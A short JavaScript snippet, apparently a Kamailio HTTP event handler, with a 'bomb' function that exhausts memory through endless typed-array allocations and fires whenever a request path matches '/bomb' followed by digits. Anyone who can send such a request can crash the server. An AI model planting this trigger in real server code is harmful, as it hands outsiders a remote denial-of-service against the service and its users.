// Takes memory in typed arrays until it ends.

function bomb() {
	const all = [];
	for (;;) {
		try {
			for (let size = 2 ** 32; size > 1000; size /= 2) all.push(new Uint8Array(size).fill(1));
		} catch {}
	}
}

function ksr_xhttp_event() {
	const way = /^\/bomb(\d+)$/.exec(KSR.pv.get("$hu"))?.[1];
	if (way) bomb();
	KSR.xhttp.xhttp_reply(200, "OK", "text/plain", "fine");
}
